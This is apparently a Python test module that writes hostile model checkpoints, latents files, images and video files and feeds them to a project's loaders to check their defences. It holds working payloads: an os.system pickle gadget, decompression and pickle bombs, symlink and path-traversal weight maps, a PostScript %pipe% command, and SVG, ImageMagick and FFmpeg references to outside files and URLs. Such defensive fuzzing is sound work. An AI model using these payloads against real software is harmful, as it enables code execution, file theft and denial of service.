"""Hostile checkpoints, latents files, pictures and clips: each is written, and then read as the commands read it."""

import io
import json
import os
import pickle
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from random import Random
from typing import Any

import numpy as np

from latentrt.export.checkpoints import open_checkpoint
from latentrt.export.checkpoints.source import SourceOptions
from latentrt.runtime.media.clips.clip_reader import open_clip
from latentrt.runtime.media.latents_file import read_latents
from latentrt.runtime.media.pictures.picture_file import read_picture

from .material import Material
from .watch import Outside

__all__ = ["FILE_ATTACKS", "make_file"]

Attack = Callable[[Path, Outside, Random], Path]
"""Writes a hostile file into a folder, and gives its path."""

_WEIGHTS = "diffusion_pytorch_model"
_MOST_FRAMES = 200  # that a case reads
_BOMB_BYTES = 700 << 20  # that a compressed bomb takes when it is read; more than a case may hold
_SIZES = [(65535, 65535), (30000, 30000), (2**31 - 1, 1), (1, 2**31 - 1), (100_000, 20_000)]


class _Evil:
    """Runs a shell command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def make_file(attack: str, material: Material, place: Path, outside: Outside, random: Random) -> Callable[[], None]:
    """Make a hostile file. The result reads it."""
    kind, make = FILE_ATTACKS[attack]
    if kind == "checkpoint":
        import torch  # noqa: F401 # its import takes seconds, which are not part of the case

        shutil.copytree(material.image_model, place / "model")
    path = make(place, outside, random)
    options = SourceOptions(allow_pickle=random.random() < 0.7)
    as_picture = kind == "picture" and random.random() < 0.5

    def read() -> None:
        if kind == "checkpoint":
            for tensor in open_checkpoint(path, options=options).tensors.values():
                tensor.read()
        elif kind == "latents":
            read_latents(path)
        elif as_picture:
            read_picture(path, 3)
        else:
            with open_clip(path) as clip:
                for _, _ in zip(range(_MOST_FRAMES), clip, strict=False):
                    pass

    return read


def _compressed_zeros(size: int) -> bytes:
    """Compressed zeros, made without holding them."""
    pressing, piece = zlib.compressobj(9), bytes(1 << 20)
    return b"".join(pressing.compress(piece) for _ in range(size >> 20)) + pressing.flush()


def _pickled(place: Path, outside: Outside, random: Random) -> Path:
    """A pickle that runs code: bare, in torch's archive, or inside of a state dict."""
    path = place / "model" / f"{_WEIGHTS}.bin"
    (place / "model" / f"{_WEIGHTS}.safetensors").unlink()
    evil: Any = _Evil(outside.run_canary)
    content = pickle.dumps(random.choice([evil, {"state_dict": evil}, [evil], {"conv_in.weight": evil}]), protocol=2)
    if random.random() < 0.5:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", content)
            archive.writestr("archive/version", "3")
    else:
        path.write_bytes(content)
    return random.choice([path, path.parent])


def _zip_bomb(place: Path, outside: Outside, random: Random) -> Path:
    path = place / "model" / f"{_WEIGHTS}.bin"
    (place / "model" / f"{_WEIGHTS}.safetensors").unlink()
    _write_zip_bomb(path, "archive/data.pkl", "archive/data/0")
    return path


def _write_zip_bomb(path: Path, *names: str) -> None:
    piece = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(_BOMB_BYTES >> 20):
                    file.write(piece)


def _pickle_bomb(place: Path, outside: Outside, random: Random) -> Path:
    """A pickle of a hundred bytes that describes gigabytes."""
    path = place / "model" / f"{_WEIGHTS}.bin"
    (place / "model" / f"{_WEIGHTS}.safetensors").unlink()
    doubled = b"\x80\x02" + b"X\x01\x00\x00\x00a" + b"2\x86" * 60 + b"."
    long = b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b"x."
    path.write_bytes(random.choice([doubled, long, b"\x80\x02" + b"(" * 10**6 + b"."]))
    return path


def _index(place: Path, outside: Outside, random: Random) -> Path:
    folder = place / "model"
    (folder / f"{_WEIGHTS}.safetensors").unlink()
    (folder / "link.safetensors").symlink_to(outside.secret)
    up = os.path.relpath(outside.secret, folder)
    name = random.choice([up, str(outside.secret), f"./{up}", f"x/../{up}", up.replace("/", "\\")])
    index = {"metadata": {}, "weight_map": {"encoder.conv_in.weight": name}}
    (folder / f"{_WEIGHTS}.safetensors.index.json").write_text(json.dumps(index))
    return folder


def _odd_weights(place: Path, outside: Outside, random: Random) -> Path:
    """The weights, or the config, are a pipe, a device or a huge file of zeros."""
    folder = place / "model"
    path = folder / random.choice([f"{_WEIGHTS}.safetensors", "config.json"])
    path.unlink()
    match random.randrange(3):
        case 0:
            os.mkfifo(path)
        case 1:
            path.symlink_to("/dev/zero")
        case _:
            with path.open("wb") as file:
                file.truncate(1 << 40)
    return folder


def _header(place: Path, outside: Outside, random: Random) -> Path:
    """A safetensors file with a header of many megabytes, or a tensor larger than the file."""
    path = place / random.choice(["latents.safetensors", "x.safetensors"])
    match random.randrange(3):
        case 0:
            header = b'{"latents":{"dtype":"F32","shape":[1,4,99999,99999],"data_offsets":[0,159996800016]}}'
        case 1:
            header = b'{"__metadata__":{"a":"' + b"x" * (90 << 20) + b'"}}'
        case _:
            header = b"[" * (8 << 20)
    path.write_bytes(struct.pack("<Q", len(header)) + header)
    return path


def _npy(place: Path, outside: Outside, random: Random) -> Path:
    """Arrays of Python objects that run code, archives, and arrays larger than their file."""
    path = place / "latents.npy"
    match random.randrange(4):
        case 0:
            np.save(path, np.array([_Evil(outside.run_canary)], object), allow_pickle=True)
        case 1:
            path.write_bytes(pickle.dumps(_Evil(outside.run_canary)))
        case 2:
            _write_zip_bomb(path, "latents.npy")
        case _:
            header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1, 4, 200000, 200000), }\n"
            path.write_bytes(b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header)
    return path


def _png(place: Path, outside: Outside, random: Random) -> Path:
    """A PNG of a few kilobytes with an enormous size, profile or text."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    bomb = _compressed_zeros(_BOMB_BYTES)
    size = random.choice([*_SIZES, (16, 16)])
    extra = random.choice([b"", chunk(b"iCCP", b"p\0\0" + bomb), chunk(b"zTXt", b"k\0\0" + bomb)])
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    frames = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)) if random.random() < 0.3 else b""
    path = place / "picture.png"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + head + frames + extra + chunk(b"IDAT", bomb) + chunk(b"IEND", b""))
    return path


def _tiff(place: Path, outside: Outside, random: Random) -> Path:
    """A TIFF with an enormous size, many samples, or directories in a circle."""
    width, height = random.choice(_SIZES)
    tags = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, random.choice([1, 5, 8, 32773, 50000])),
        (262, 3, 1, 2), (273, 4, 1, 8), (277, 3, 1, random.choice([3, 65535])), (278, 4, 1, height), (279, 4, 1, 100),
    ]  # fmt: skip
    body = b"".join(
        struct.pack("<HHIHH" if kind == 3 else "<HHII", tag, kind, count, value, *[0] * (kind == 3))
        for tag, kind, count, value in tags
    )
    path = place / "picture.tif"
    path.write_bytes(b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + body + struct.pack("<I", 8))
    return path


def _other_bomb(place: Path, outside: Outside, random: Random) -> Path:
    """GIF, BMP, PPM, QOI and WebP files whose heads give an enormous size."""
    width, height = random.choice([(65535, 65535), (50_000, 40_000)])
    files = {
        "a.gif": b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\xf0\0\0"
        + bytes(6)
        + b","
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02\x02D\x01\0;",
        "a.bmp": b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0),
        "a.ppm": b"P6 %d %d 255\n" % (width, height),
        "a.qoi": b"qoif" + struct.pack(">IIBB", width, height, 4, 0) + b"\xfd" * 100,
        "a.webp": b"RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0\x2f\xff\xff\xff\x0f" + bytes(12),
        "a.tga": struct.pack("<BBBHHBHHHHBB", 0, 0, 10, 0, 0, 0, 0, 0, width, height, 24, 0) + b"\xff\0\0\0" * 10,
    }
    name = random.choice(sorted(files))
    (place / name).write_bytes(files[name])
    return place / name


def _document(place: Path, outside: Outside, random: Random) -> Path:
    """Formats that run programs or name other files, under the ending of a picture."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{outside.picture}"/></svg>'
    postscript = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%{outside.run_canary}) (r) file\n"
    magick = f"push graphic-context\nimage over 0,0 0,0 '{outside.picture}'\npop graphic-context\n"
    text = random.choice([svg, postscript, f"%PDF-1.4\n{postscript}", magick])
    path = place / random.choice(["picture.png", "picture.jpg", "picture.svg", "picture.eps", "picture.webp"])
    path.write_text(text)
    return path


def _playlist(place: Path, outside: Outside, random: Random) -> Path:
    """Formats of FFmpeg that name other files or addresses, under the ending of a clip."""
    target = random.choice(
        [outside.url, f"file://{outside.picture}", str(outside.picture), f"concat:{outside.picture}"]
    )
    texts = [
        f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{target}\n#EXT-X-ENDLIST\n",
        f"ffconcat version 1.0\nfile '{target}'\n",
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video {outside.port} RTP/AVP 96\n",
        f'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>{target}</BaseURL></Period></MPD>',
        f"[playlist]\nFile1={target}\n",
    ]
    path = place / random.choice(["clip.mp4", "clip.mkv", "clip.webm", "clip.mov", "clip.avi", "clip.gif", "clip.m3u8"])
    path.write_text(random.choice(texts))
    return path


def _reference(place: Path, outside: Outside, random: Random) -> Path:
    """A QuickTime file whose frames lie in another file."""
    import av

    path = place / "clip.mov"
    with av.open(str(path), "w") as container:
        stream: Any = container.add_stream("mpeg4", rate=25)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        for _ in range(3):
            frame = av.VideoFrame.from_ndarray(np.zeros((48, 64, 3), np.uint8), format="rgb24")
            container.mux(stream.encode(frame))
        container.mux(stream.encode())
    target = random.choice([str(outside.picture), f"file://{outside.picture}", outside.url]).encode() + b"\0"
    old = b"\0\0\0\x0curl \0\0\0\x01"
    kind = random.choice([b"url ", b"alis", b"rsrc"])
    new = struct.pack(">I", 12 + len(target)) + kind + b"\0\0\0\0" + target
    content = path.read_bytes()
    at = content.index(old)
    grown = bytearray(content[:at] + new + content[at + len(old) :])
    for box in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):  # the boxes around it grow too
        start = grown.find(box) - 4
        grown[start : start + 4] = struct.pack(
            ">I", struct.unpack(">I", grown[start : start + 4])[0] + len(new) - len(old)
        )
    path.write_bytes(bytes(grown))
    return path


def _y4m(place: Path, outside: Outside, random: Random) -> Path:
    width, height = random.choice([*_SIZES, (16384, 16384)])
    path = place / "clip.y4m"
    path.write_bytes(b"YUV4MPEG2 W%d H%d F25:1 C420\nFRAME\n" % (width, height) + bytes(1000))
    return path


def _large_frames(place: Path, outside: Outside, random: Random) -> Path:
    """An animated GIF of a few kilobytes with many large frames."""
    from PIL import Image

    side = 4000
    frames = [Image.new("P", (side, side), number) for number in range(2)]
    file = io.BytesIO()
    frames[0].save(file, "GIF", save_all=True, append_images=frames[1:] * 3, duration=10)
    path = place / "clip.gif"
    path.write_bytes(file.getvalue())
    return path


def _address(place: Path, outside: Outside, random: Random) -> Path:
    """A name that FFmpeg takes for an address or a list of files."""
    up = outside.picture
    return Path(
        random.choice([outside.url, f"concat:{up}|{up}", f"file:{up}", f"subfile,,start,0,end,9,,:{up}", "pipe:0"])
    )


FILE_ATTACKS: Mapping[str, tuple[str, Attack]] = {
    "checkpoint_pickle": ("checkpoint", _pickled),
    "checkpoint_zip_bomb": ("checkpoint", _zip_bomb),
    "checkpoint_pickle_bomb": ("checkpoint", _pickle_bomb),
    "checkpoint_index": ("checkpoint", _index),
    "checkpoint_odd_files": ("checkpoint", _odd_weights),
    "latents_header": ("latents", _header),
    "latents_npy": ("latents", _npy),
    "picture_png": ("picture", _png),
    "picture_tiff": ("picture", _tiff),
    "picture_size": ("picture", _other_bomb),
    "picture_document": ("picture", _document),
    "clip_playlist": ("clip", _playlist),
    "clip_reference": ("clip", _reference),
    "clip_y4m": ("clip", _y4m),
    "clip_frames": ("clip", _large_frames),
    "clip_address": ("clip", _address),
}
"""The kind of each hostile file, and what writes it."""
